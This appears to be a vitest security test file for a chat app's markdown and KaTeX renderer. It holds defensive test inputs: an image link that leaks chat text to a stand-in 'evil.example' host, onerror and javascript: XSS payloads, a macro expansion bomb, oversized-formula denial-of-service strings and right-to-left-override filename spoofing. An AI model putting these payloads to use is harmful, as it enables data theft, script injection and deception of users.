// Without a DOM (server rendering, Node) DOMPurify cannot sanitise, so renderMarkdown must
// refuse to produce HTML at all rather than pass markup through. Sanitising itself is
// exercised in a real browser by tests/e2e/chat.test.ts.
import { describe, expect, it } from 'vitest';
import katex from 'katex';
import { answerClasses, blockDirection, KATEX_OPTIONS, katexHtml, markdownToHtml, MATH_BUDGET, parseMarkdown, renderMarkdown, rendersHidden, SANITIZE_OPTIONS } from './markdown.ts';

describe('renderMarkdown without a DOM', () => {
  it('returns null instead of unsanitised HTML', () => {
    expect(renderMarkdown('<img src=x onerror=alert(1)> **bold**')).toBeNull();
  });
});

describe('images in model output (issue 10, finding 5)', () => {
  it('become links: nothing is fetched when an answer renders', () => {
    const html = markdownToHtml('See ![chart of "q3"](https://evil.example/leak?d=secret%20chat) now');
    expect(html).not.toContain('<img');
    expect(html).toContain('<a href="https://evil.example/leak?d=secret%20chat">chart of &#34;q3&#34;</a>');
  });

  it('raw media tags are stripped by the sanitiser', () => {
    for (const tag of ['img', 'picture', 'source', 'video', 'audio']) expect(SANITIZE_OPTIONS.FORBID_TAGS).toContain(tag);
    expect(SANITIZE_OPTIONS.FORBID_ATTR).toContain('srcset');
  });
});

const found = (source: string) => parseMarkdown(source).formulas;

describe('direction of answer blocks (QA 5 #1)', () => {
  // The sanitiser writes each element's dir by its tag (the answer's own dir is dropped); the
  // browser check that a Hebrew paragraph computes direction: rtl is in tests/e2e/chat.test.ts.
  const tags = (html: string) => [...new Set([...html.matchAll(/<([a-z][a-z0-9]*)/g)].map((m) => m[1]!))];

  it('every block of text the renderer writes takes its direction from its text; code blocks stay left to right', () => {
    const html = markdownToHtml('# כותרת\n\nשלום **עולם**.\n\n- אחד\n1. שתיים\n\n> ציטוט\n\n| א | ב |\n|---|---|\n| 1 | 2 |\n\n```js\nlet x = 1;\n```\n');
    const blocks = tags(html).filter((tag) => !['strong', 'code', 'span', 'div', 'thead', 'tbody', 'tr'].includes(tag));
    expect(blocks.sort()).toEqual(['blockquote', 'h1', 'li', 'ol', 'p', 'pre', 'table', 'td', 'th', 'ul']);
    for (const tag of blocks) expect(blockDirection(tag), tag).toBe(tag === 'pre' ? 'ltr' : 'auto');
  });

  it('inline elements get none (they follow their block), nor anything the sanitiser does not keep', () => {
    for (const tag of ['strong', 'em', 'code', 'a', 'span', 'div', 'tr', 'bdo']) expect(blockDirection(tag), tag).toBeUndefined();
  });

  it("the answer's own dir is never kept", () => {
    expect(SANITIZE_OPTIONS.FORBID_ATTR).toContain('dir');
  });
});

describe('math in answers', () => {

  it('finds $…$, $$…$$, \\(…\\) and \\[…\\], inline and display', () => {
    expect(found('Euler: $e^{i\\pi} + 1 = 0$ holds.')).toEqual([{ tex: 'e^{i\\pi} + 1 = 0', display: false }]);
    expect(found('$$\n\\int_0^1 x\\,dx = \\tfrac12\n$$')).toEqual([{ tex: '\\int_0^1 x\\,dx = \\tfrac12', display: true }]);
    expect(found('where \\(a^2 + b^2 = c^2\\) and')).toEqual([{ tex: 'a^2 + b^2 = c^2', display: false }]);
    expect(found('The roots:\n\\[\nx = \\frac{-b \\pm \\sqrt{b^2-4ac}}{2a}\n\\]\nas usual.')).toEqual([
      { tex: 'x = \\frac{-b \\pm \\sqrt{b^2-4ac}}{2a}', display: true },
    ]);
  });

  it('a display formula on lines of its own is a block; one inside a sentence stays in it', () => {
    expect(parseMarkdown('Before.\n\n$$\n- b \\\\\n+ c\n$$\n\nAfter.').formulas).toEqual([{ tex: '- b \\\\\n+ c', display: true }]);
    expect(parseMarkdown('Before.\n\n$$\n- b\n$$').html).not.toContain('<ul>');
    expect(found('so $$a = b$$ and \\[c\\] inline')).toEqual([{ tex: 'a = b', display: true }, { tex: 'c', display: true }]);
    expect(found('$$\nunclosed\n\\]')).toEqual([]);
  });

  it('leaves the formula whole: markdown inside it is not markdown, \\\\) does not end it', () => {
    expect(found('\\(a_1 * b_2 * c\\)')).toEqual([{ tex: 'a_1 * b_2 * c', display: false }]);
    expect(found('\\[\\begin{matrix} a \\\\ (b) \\end{matrix}\\]')).toEqual([{ tex: '\\begin{matrix} a \\\\ (b) \\end{matrix}', display: true }]);
  });

  it('is not found in prices, code or escaped dollars', () => {
    expect(found('It costs $5, or $10 with shipping.')).toEqual([]);
    expect(found('From $20 to $30. US$5 and $ 7 $ too.')).toEqual([]);
    expect(found('Pay $5 for $x$.')).toEqual([{ tex: 'x', display: false }]);
    expect(found('Run `echo $HOME $PATH` or `\\(x\\)`.')).toEqual([]);
    expect(found('```sh\necho $a $b\n```')).toEqual([]);
    expect(found('Between \\$5 and \\$10.')).toEqual([]);
  });

  it('each formula becomes an empty placeholder; the TeX is not in the HTML to sanitise', () => {
    const { html } = parseMarkdown('Area $\\pi r^2$ and \\(<img src=x onerror=alert(1)>\\)');
    expect(html).not.toContain('pi r');
    expect(html).not.toContain('<img');
    expect(html.match(/<span class="mrp-math-[0-9a-f]{16}-[01]"><\/span>/g)).toHaveLength(2);
  });

  it('KaTeX, as configured, links, embeds and styles nothing that TeX asks for', () => {
    // The MathML annotation carries the source as text; the rest is what is drawn.
    const render = (tex: string) => katex.renderToString(tex, KATEX_OPTIONS).replace(/<annotation[^]*?<\/annotation>/, '');
    for (const tex of ['\\href{javascript:alert(1)}{x}', '\\url{https://evil.example}', '\\includegraphics{https://evil.example/a.png}', '\\htmlStyle{position:fixed;inset:0}{x}', '\\htmlClass{fixed}{x}', '\\htmlData{onload=alert(1)}{x}']) {
      const html = render(tex);
      expect(html).not.toMatch(/href=|<img|position:\s*fixed|class="fixed"|onload/);
    }
    // Sizes are capped at maxSize ems (a negative kern is not: .markdown clips what it moves).
    expect(render('\\rule{500em}{500em}')).not.toContain('500em');
    expect(render('\\rule{500em}{500em}')).toContain('10em');
    // A formula that does not parse shows its source (escaped) instead of throwing.
    expect(render('\\frac{<b>')).toContain('&lt;b&gt;');
  });
});

// Security review 6 #4: maxSize caps only positive sizes, so `\raisebox{-100000em}{x}` was drawn
// `height:100000em` and made an answer ~1.9 M px tall. The heights KaTeX writes stay within
// 100em (an 80-row matrix is ~98em); a formula that would reach further shows as code.
describe('formulas cannot make an answer thousands of screens tall', () => {
  const heights = (html: string) => [...html.matchAll(/(?:height|vertical-align|top|bottom|margin-top|margin-bottom):\s*(-?[\d.]+)em/g)].map((m) => Math.abs(Number(m[1])));
  it('a huge negative size (raised, ruled, hidden in \\vphantom, built by a macro) shows as code', () => {
    for (const tex of ['\\vphantom{\\raisebox{-100000em}{x}}', '\\raisebox{-100000em}{x}', '\\rule[-100000em]{1em}{1em}', '\\raisebox{-100000pt}{x}', '\\def\\d{-99999}\\raisebox{\\d em}{x}', '\\raisebox{-60em}{\\raisebox{-60em}{x}}']) {
      for (const display of [false, true]) {
        const html = katexHtml(katex, { tex, display });
        expect(Math.max(0, ...heights(html)), tex).toBeLessThanOrEqual(100);
        expect(html, tex).toMatch(/^<code>/);
      }
    }
  });
  it('ordinary formulas, tall matrices and capped rules are drawn', () => {
    const matrix = '\\begin{pmatrix}' + Array.from({ length: 80 }, (_, i) => `a_{${i}} & b`).join('\\\\') + '\\end{pmatrix}';
    for (const tex of ['x = \\frac{-b \\pm \\sqrt{b^2-4ac}}{2a}', '\\sum_{i=0}^\\infty \\frac{1}{\\sqrt{\\frac{a}{b}}}', '\\rule{500em}{500em}', '\\raisebox{-5em}{x}', '\\kern{-7em}\\colorbox{red}{\\rule{5em}{5em}}', matrix]) {
      expect(katexHtml(katex, { tex, display: true }), tex.slice(0, 30)).toContain('class="katex');
    }
  });
});

describe('formula lengths are bounded', () => {
  it('an inline formula longer than 2,000 characters is text; a display one up to 20,000 is math', () => {
    expect(found(`\\(${'x'.repeat(2_001)}\\)`)).toEqual([]);
    expect(found(`\\(${'x'.repeat(2_000)}\\)`)).toHaveLength(1);
    // Found, and shown as its TeX: one formula that long is past the budget to draw (below).
    expect(parseMarkdown(`$$\n${'x'.repeat(19_000)}\n$$`).html).toBe(`<pre><code class="language-latex">${'x'.repeat(19_000)}</code></pre>\n`);
    expect(parseMarkdown('\\( a '.repeat(5_000)).formulas).toEqual([]);
  });
});

describe('each message has a budget for math (audit W4)', () => {
  // KaTeX's output is ~100–160 bytes of HTML per TeX character, drawn, sanitised and laid out at
  // once: a 100 kB answer of five 20 kB formulas froze the tab 15–26 s. Past the budget a
  // formula's TeX shows as code (escaped, then sanitised strictly with the rest of the answer).
  const placeholders = (html: string) => html.match(/<span class="mrp-math-[0-9a-f]{16}-\d+"><\/span>/g) ?? [];
  const codes = (html: string) => [...html.matchAll(/<code(?: class="language-latex")?>([^<]*)<\/code>/g)].map((m) => m[1]);

  it('5,000 formulas: the first MATH_BUDGET.formulas are drawn, the rest show as code', () => {
    const source = Array.from({ length: 5_000 }, (_, i) => `$x_{${i}}$`).join(' ');
    const { html, formulas } = parseMarkdown(source);
    expect(formulas).toHaveLength(MATH_BUDGET.formulas);
    expect(formulas.at(-1)).toEqual({ tex: `x_{${MATH_BUDGET.formulas - 1}}`, display: false });
    expect(placeholders(html)).toHaveLength(MATH_BUDGET.formulas);
    const rest = codes(html);
    expect(rest).toHaveLength(5_000 - MATH_BUDGET.formulas);
    expect(rest[0]).toBe(`x_{${MATH_BUDGET.formulas}}`);
    expect(rest.at(-1)).toBe('x_{4999}');
  });

  it('one huge formula (the audit\'s 20 kB) shows as a code block of its TeX', () => {
    const tex = `${'x+'.repeat(9_990)}x`;
    const { html, formulas } = parseMarkdown(`Before.\n\n$$\n${tex}\n$$\n\nAfter.`);
    expect(formulas).toEqual([]);
    expect(html).toContain(`<pre><code class="language-latex">${tex}</code></pre>`);
    expect(html).toContain('<p>After.</p>');
    // Five of them (100 kB): none is drawn.
    expect(parseMarkdown(Array(5).fill(`$$\n${tex}\n$$`).join('\n\n')).formulas).toEqual([]);
    // Inside a sentence, and just over the limit: code inside the sentence.
    const over = 'y'.repeat(MATH_BUDGET.formulaChars + 1);
    const inline = parseMarkdown(`so \\[${over}\\] holds`);
    expect(inline.formulas).toEqual([]);
    expect(inline.html).toBe(`<p>so <code>${over}</code> holds</p>\n`);
    expect(found(`so \\[${'y'.repeat(MATH_BUDGET.formulaChars)}\\] holds`)).toHaveLength(1);
  });

  it('counts the characters of all formulas in order: one that does not fit is code, smaller ones after it are drawn', () => {
    const long = 'a'.repeat(MATH_BUDGET.formulaChars);
    const rest = 'b'.repeat(MATH_BUDGET.chars - long.length - 1);
    const { html, formulas } = parseMarkdown(`\\[${long}\\] \\[${rest}\\] \\[cc\\] and $x$ but not $y$`);
    expect(formulas.map((f) => f.tex)).toEqual([long, rest, 'x']);
    expect(codes(html)).toEqual(['cc', 'y']);
  });

  it('a formula that defines macros shows as code; a line break followed by "def" is no definition', () => {
    // 1.8 kB that KaTeX expands 400-fold (55 s in Node): the budget counts what is written.
    const bomb = `\\def\\a{${'x'.repeat(1_000)}}${'\\a'.repeat(400)}`;
    for (const tex of [bomb, '\\newcommand{\\R}{\\mathbb{R}} \\R^n', 'a \\\\ \\gdef\\b{c}', '\\let\\x=y', '\\global\\edef\\c{d}']) {
      const { html, formulas } = parseMarkdown(`$$\n${tex}\n$$`);
      expect(formulas).toEqual([]);
      expect(codes(html)).toHaveLength(1);
    }
    expect(found('\\[\\begin{matrix} a \\\\def \\end{matrix}\\]')).toHaveLength(1);
    expect(found('$\\defaultvalue + \\letter$')).toHaveLength(1); // not KaTeX's, but no definition either
  });

  it('TeX shown as code is escaped', () => {
    const { html } = parseMarkdown(`$$\n${'<img src=x onerror=alert(1)>'.repeat(120)}\n$$\n\nand \\(\\def<b>\\)`);
    expect(html).not.toMatch(/<img|<b>/);
    expect(html).toContain('<pre><code class="language-latex">&#60;img src=x onerror=alert(1)&#62;');
    expect(html).toContain('<code>\\def&#60;b&#62;</code>');
  });

  it('normal math is drawn: every formula of a math-heavy answer fits', () => {
    const aligned = '\\begin{aligned}' + Array.from({ length: 20 }, (_, i) => `f_{${i}}(x) &= \\sum_{k=0}^{\\infty} \\frac{x^k}{k!} + \\int_0^1 t^{${i}}\\,dt`).join('\\\\') + '\\end{aligned}';
    const answer = [
      'Euler: $e^{i\\pi} + 1 = 0$ and \\(a^2 + b^2 = c^2\\).',
      '\\[\nx = \\frac{-b \\pm \\sqrt{b^2-4ac}}{2a}\n\\]',
      `$$\n${aligned}\n$$`,
      ...Array.from({ length: 120 }, (_, i) => `Step ${i}: with $\\lambda_{${i}}$ and $A_{${i}} v = \\lambda v$ it costs $5.`),
    ].join('\n\n');
    const { html, formulas } = parseMarkdown(answer);
    expect(formulas).toHaveLength(244);
    expect(formulas[2]).toEqual({ tex: 'x = \\frac{-b \\pm \\sqrt{b^2-4ac}}{2a}', display: true });
    expect(formulas[3]).toEqual({ tex: aligned, display: true });
    expect(codes(html)).toEqual([]);
    // And KaTeX, as configured, draws them (MathML for screen readers included).
    for (const { tex, display } of formulas.slice(0, 4)) {
      const out = katex.renderToString(tex, { ...KATEX_OPTIONS, displayMode: display });
      expect(out).not.toContain('katex-error');
      expect(out).toContain('<math');
    }
  });

  it('the budget is per message: the next answer starts afresh', () => {
    parseMarkdown(Array.from({ length: 1_000 }, () => '$x$').join(' '));
    expect(found('$a$ and $b$')).toEqual([{ tex: 'a', display: false }, { tex: 'b', display: false }]);
  });
});

describe('nesting marked cannot parse (audit W1)', () => {
  // marked recurses once per level: a few thousand levels overflow the stack (RangeError). Such an
  // answer (3 kB, about 1k tokens) blanked the chat and its share link for everyone who opened them.
  const deep = {
    blockquotes: '>'.repeat(3_000) + ' x',
    'list markers': '- '.repeat(3_000) + 'x',
    'ordered list markers': '1. '.repeat(3_000) + 'x',
    'mixed quotes and lists': '> - '.repeat(2_000) + 'x',
    emphasis: '*'.repeat(3_000) + 'x' + '*'.repeat(3_000),
  };

  it.each(Object.entries(deep))('%s: the answer shows as its escaped text instead of throwing', (_, source) => {
    const { html, formulas } = parseMarkdown(`${source} <b>$x$</b>`);
    expect(html).toMatch(/^<p class="whitespace-pre-wrap">/);
    expect(html).toContain('&#60;b&#62;$x$&#60;/b&#62;');
    expect(html).not.toContain('<b>');
    expect(formulas).toEqual([]);
  });

  it('the next answer renders as markdown again, formulas included', () => {
    parseMarkdown(deep.blockquotes);
    const { html, formulas } = parseMarkdown('> quoted **bold** and $x$');
    expect(html).toContain('<blockquote>');
    expect(html).toContain('<strong>bold</strong>');
    expect(formulas).toEqual([{ tex: 'x', display: false }]);
  });

  it('moderate nesting is still markdown', () => {
    expect(parseMarkdown('>'.repeat(50) + ' x').html.match(/<blockquote>/g)).toHaveLength(50);
  });
});

describe('hidden characters in math', () => {
  it('a formula whose TeX holds a right-to-left override shows as code, where it is marked like any text', () => {
    expect(found('see $\\text{admin\u202Egpj.exe}$ here')).toEqual([]);
    expect(markdownToHtml('see $\\text{admin\u202Egpj.exe}$ here')).toContain('<code>\\text{admin\u202Egpj.exe}</code>');
    expect(found('see $\\text{👨‍👩‍👧}$ here')).toEqual([{ tex: '\\text{👨‍👩‍👧}', display: false }]);
  });

  it('a formula that draws a hidden character with \\char is caught in what KaTeX rendered (security review 5, #3)', () => {
    const render = (tex: string) => katex.renderToString(tex, KATEX_OPTIONS);
    // Hex, decimal and octal forms; a right-to-left override, a zero-width space, a tag character.
    for (const tex of ['\\text{admin\\char"202Egpj.exe}', '\\text{pay\\char"200Bpal}', '\\mathrm{a\\char8238 b}', "\\char'20056", '\\text{a\\char"E0041 b}']) {
      expect(rendersHidden(render(tex)), tex).toBe(true);
    }
    // Ordinary formulas: KaTeX's own zero-width spaces (HTML part) and MathML's invisible operators
    // (U+2061 after \\sin and \\lim, U+2063 after spacing) are not the answer's.
    for (const tex of ['\\sin x + \\log y', '\\lim_{x\\to0} f(x)', '\\operatorname{foo} x', '\\sum_{i=1}^n i', '\\vec{a}\\,\\; \\quad \\!', '\\begin{pmatrix}a&b\\\\c&d\\end{pmatrix}', '\\text{👨‍👩‍👧}', 'e^{i\\pi} + 1 = 0']) {
      expect(rendersHidden(render(tex)), tex).toBe(false);
    }
  });
});

describe("the answer's own markup (security review 5, #1)", () => {
  it('keeps no class but those the app writes: Tailwind utilities and look-alike markers are dropped', () => {
    expect(answerClasses('DIV', 'fixed inset-0 z-50 bg-zinc-950 flex items-center justify-center')).toBe('');
    expect(answerClasses('DIV', 'card')).toBe('');
    expect(answerClasses('SPAN', 'invisible-char sr-only')).toBe('');
    expect(answerClasses('SPAN', 'hidden katex')).toBe('');
    expect(answerClasses('CODE', 'hljs-keyword fixed')).toBe('');
    expect(answerClasses('DIV', 'table-scroll fixed')).toBe('table-scroll');
    expect(answerClasses('SPAN', 'mrp-math-0123456789abcdef-0')).toBe(''); // the nonce is not this page's
  });

  it('keeps every class the renderer writes: highlighted code, tables, formula placeholders', () => {
    const source = [
      '```js\nclass A { f() { return g(1) } } // c\n```',
      '```html\n<div><script>new Foo()</script><style>a{b:c}</style></div>\n```',
      '```\nunknown language\n```',
      '```python\ndef f(x): return "s"\n```',
      '| a | b |\n| --- | --- |\n| 1 | 2 |',
      'A formula $x^2$ and \\[y\\]',
    ].join('\n\n');
    const classes = [...markdownToHtml(source).matchAll(/<(\w+)[^>]*\sclass="([^"]*)"/g)].map(([, tag, value]) => [tag!, value!] as const);
    expect(classes.length).toBeGreaterThan(10);
    for (const [tag, value] of classes) expect(answerClasses(tag, value), `${tag} ${value}`).toBe(value);
    expect(classes.some(([tag, value]) => tag === 'span' && value.startsWith('mrp-math-'))).toBe(true);
    expect(classes.some(([, value]) => value === 'hljs-title function_')).toBe(true);
  });

  it('keeps no id, hidden, popover, ARIA, dir, slot, form control or <dialog>', () => {
    for (const attr of ['style', 'id', 'name', 'hidden', 'popover', 'popovertarget', 'inert', 'tabindex', 'slot', 'role', 'dir']) expect(SANITIZE_OPTIONS.FORBID_ATTR, attr).toContain(attr);
    for (const tag of ['dialog', 'bdo', 'form', 'input', 'button', 'select', 'option', 'label', 'fieldset', 'output', 'slot', 'template']) expect(SANITIZE_OPTIONS.FORBID_TAGS, tag).toContain(tag);
    expect(SANITIZE_OPTIONS.ALLOW_ARIA_ATTR).toBe(false);
    expect(SANITIZE_OPTIONS.ALLOW_DATA_ATTR).toBe(false);
  });
});
